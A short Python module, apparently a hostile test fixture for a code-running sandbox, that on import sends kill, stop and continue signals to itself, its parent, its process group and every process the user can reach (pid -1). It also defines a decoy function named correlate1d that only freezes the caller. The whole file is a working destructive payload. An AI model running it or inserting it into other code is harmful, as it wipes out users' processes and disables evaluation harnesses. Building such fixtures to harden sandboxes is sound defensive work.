"""Kills, stops and continues itself and its parents with every signal, which the first of its world ignores."""

import os
import signal

for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTSTP, signal.SIGTTIN, signal.SIGCONT):
    for process in (os.getpid(), os.getppid(), 0, -1):
        try:
            os.kill(process, number)
        except OSError:
            pass


def correlate1d(signal_, kernel):
    os.kill(os.getpid(), signal.SIGSTOP)
    return 0
